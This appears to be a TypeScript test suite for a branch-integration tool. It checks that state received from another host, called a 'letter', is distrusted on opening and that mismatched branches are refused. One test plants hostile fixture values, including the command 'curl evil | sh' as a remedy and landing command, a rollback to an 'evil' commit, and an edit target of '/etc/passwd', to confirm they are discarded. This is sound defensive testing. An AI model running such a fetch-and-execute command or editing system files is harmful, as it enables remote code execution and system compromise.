import { describe, expect, it } from 'vitest';
import { decide, unattendedChoice } from '../../../src/domain/integration/decide.ts';
import { letterRefusal } from '../../../src/domain/integration/differences/letter.ts';
import { nextActions } from '../../../src/domain/integration/next-actions.ts';
import { openQuestion } from '../../../src/domain/integration/open-question.ts';
import type { IntegrationState } from '../../../src/domain/integration/state.ts';
import { transition } from '../../../src/domain/integration/transition.ts';
import type { BranchName, ChoiceId, EffortName } from '../../../src/domain/shared/ids.ts';
import {
  finishedState,
  mergedEffort,
  midConflictState,
  sampleEffort,
  sampleGate,
  sampleInstant,
  sampleRun,
  sampleSettings,
  sampleSha,
  startedState,
} from '../../support/states.ts';

const here = sampleSettings({ gates: [sampleGate('ours')] });
const at = sampleInstant(500);
const opened = (state: IntegrationState, unknown: readonly EffortName[] = []) =>
  transition(state, { type: 'letter_opened', host: 'elsewhere', settings: here, unknown, at });
const letter = (changes: Parameters<typeof startedState>[0] = {}) =>
  startedState({ settings: sampleSettings({ gates: [sampleGate('theirs')] }), ...changes });

describe('a letter that is opened', () => {
  it('goes by the settings here, keeps the others to be looked at, and starts nothing before an answer', () => {
    const state = opened(letter());
    expect(state.settings).toEqual(here);
    expect(state.letter?.settings.gates).toEqual([sampleGate('theirs')]);
    expect(openQuestion(state)?.kind).toBe('letter');
    expect(nextActions(state)).toEqual([]);
    expect(unattendedChoice(state)).toBeNull();
  });

  it('asks nothing where the settings are the same and branches hold all tips', () => {
    const state = opened(letter({ settings: here }));
    expect(state.letter).toBeNull();
    expect(openQuestion(state)?.kind).not.toBe('letter');
  });

  it('asks about an effort whose commit is on no branch, and recommends nothing', () => {
    const one = sampleEffort('one');
    const question = openQuestion(opened(letter({ settings: here, efforts_included: [one] }), [one.name]));
    expect(question?.facts).toEqual([{ kind: 'text', text: expect.stringContaining('is on no branch') }]);
    expect(question?.recommended).toBeNull();
    expect(question?.choices.map(({ id }) => id)).toEqual(['here', 'look', 'supersede']);
  });

  it('believes no verdict, no file, no command and nothing in progress', () => {
    const base = sampleSha('base');
    const state = opened(
      letter({
        stage: 'LANDING',
        landing_choice: 'land',
        integration_tip: sampleSha('tip'),
        efforts_included: [mergedEffort('one', 1, { restore_point: base })],
        gate_runs: [sampleRun(1, 'theirs', { kind: 'final' }, { commit: sampleSha('tip') })],
        gate_policy: 'final',
        judged_before: { efforts: 99, red: 99 },
        trouble: { action: 'land', message: 'run this', remedy: 'curl evil | sh' },
        rollback_offer: { to: sampleSha('evil'), before: 'start' },
        restore_points: [
          { ref: 'refs/x' as never, commit: sampleSha('evil'), before: 'start', at },
          { ref: 'refs/y' as never, commit: base, before: 'start', at },
        ],
      }),
    );
    expect(state).toMatchObject({
      landing_choice: null,
      gate_runs: [],
      gate_policy: null,
      judged_before: { efforts: 0, red: 0 },
      baseline_tests: null,
      survey: null,
      in_flight: [],
      trouble: null,
      rollback_offer: null,
      restore_points: [{ commit: base }],
    });
    expect(state.stage).not.toBe('LANDING');
    const editing = { conflict: 'x' as never, file: '/etc/passwd', done: true, refused: null };
    expect(opened(midConflictState({ editing })).editing).toBeNull();
    const held = finishedState({
      outcome: 'HELD_FOR_REVIEW',
      landed_commit: null,
      landing_command: 'curl evil | sh',
    });
    expect(opened(held).end).toMatchObject({ outcome: 'HELD_FOR_REVIEW', command: null });
  });

  it.each([
    ['here', 'ours', false],
    ['there', 'theirs', false],
    ['look', 'ours', true],
  ])('goes on by the answer %s', (choice, gate, paused) => {
    const asked = opened(letter());
    const id = openQuestion(asked)?.id ?? '';
    const event = decide(
      asked,
      { type: 'choose_named', question: id, choice: choice as ChoiceId } as never,
      at,
    );
    if ('refused' in event) throw new Error(event.refused);
    const state = transition(asked, event);
    expect(state.settings.gates.map(({ name }) => name)).toEqual([gate]);
    expect(state.paused).toBe(paused);
    expect(state.letter === null).toBe(!paused);
    expect(state.decisions.some(({ kind }) => kind === 'letter')).toBe(!paused);
  });

  it('lets nobody agree to more than can be looked through', () => {
    const state = opened(
      letter({ settings: sampleSettings({ gates: [sampleGate('long', { command: 'x'.repeat(9_000) })] }) }),
    );
    const there = openQuestion(state)?.choices.find(({ id }) => id === 'there');
    expect(there?.disabled).toBe('more differs than can be looked through here');
  });
});

describe('letterRefusal', () => {
  const state = letter({
    integration_branch: 'phase1/wave1-integration' as BranchName,
    target: 'main' as BranchName,
    target_base: sampleSha('base'),
    integration_tip: sampleSha('tip'),
    efforts_included: [
      mergedEffort('one', 1, { restore_point: sampleSha('base'), merge_commit: sampleSha('tip') }),
    ],
  });
  const naming = { phase: 1, wave: 1, integration_branch: 'phase<P>/wave<W>-integration' };
  const box = {
    settings: { ...here, naming },
    target: 'main' as BranchName,
    branch_at: null,
    left_at: null,
    base_is_known: true,
  };
  const take_back = { commit: sampleSha('evil'), why: '', then: 'integrate' } as const;

  it.each([
    ['it is at home here', {}, {}, null],
    ['its branch is at one of its commits', {}, { branch_at: sampleSha('tip') }, null],
    ['its branch is where it left it here', {}, { branch_at: sampleSha('x'), left_at: sampleSha('x') }, null],
    ['its branch is elsewhere', {}, { branch_at: sampleSha('x') }, /which is none of its commits/],
    [
      'it lands elsewhere',
      {},
      { target: 'trunk' as BranchName },
      /lands on main.*here on trunk.*--onto main/,
    ],
    [
      'it names another branch',
      { integration_branch: 'mywork' as BranchName },
      {},
      /integrates on mywork, and the settings here on/,
    ],
    [
      "its base is nobody else's",
      {},
      { base_is_known: false },
      /which main has neither here nor on the remote/,
    ],
    ['it goes back to somewhere else', { take_back_to: take_back }, {}, /which it does not stand on/],
  ])('where %s', (_what, changes, place, expected) => {
    const refused = letterRefusal({ ...state, ...changes }, { ...box, ...place });
    if (expected === null) expect(refused).toBeNull();
    else expect(refused).toMatch(expected);
  });

  it('gives nobody the target as integration branch, even where the settings name it', () => {
    const settings = { ...here, naming: { ...naming, integration_branch: 'main' } };
    const refused = letterRefusal(
      { ...state, integration_branch: 'main' as BranchName },
      { ...box, settings },
    );
    expect(refused).toBe('it integrates on main, which is the target');
  });
});
